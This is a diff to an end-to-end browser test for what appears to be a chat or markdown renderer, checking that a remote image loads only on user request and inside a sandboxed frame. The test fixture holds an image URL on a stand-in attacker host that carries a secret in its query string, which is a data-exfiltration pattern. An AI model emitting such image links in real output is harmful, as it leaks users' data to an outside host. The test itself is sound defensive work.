@@ -45,8 +45,14 @@ test("hostile markup in a reply is inert and a remote image loads only on reques
   expect(imageRequests).toEqual([]);
 
   await content.getByRole("button", { name: md["markdown.image.load"].replace("{host}", "evil.example") }).click();
-  await expect(content.locator("img")).toHaveAttribute("src", "https://evil.example/leak.png?q=secret");
+  // The page itself loads no remote image (its CSP forbids it): the one the user asked for is shown
+  // by a sandboxed frame of its own.
+  await expect(content.locator("img")).toHaveCount(0);
+  const frame = content.frameLocator('[data-testid="remote-image"]');
+  await expect(frame.locator("img")).toHaveAttribute("src", "https://evil.example/leak.png?q=secret");
   await expect.poll(() => imageRequests.length).toBe(1);
+  // Sized to the image once it loaded.
+  await expect(content.getByTestId("remote-image")).toHaveCSS("aspect-ratio", "1 / 1");
   expect(imageRequests[0]?.referer).toBeUndefined();
   expect(dialogs).toEqual([]);
 });
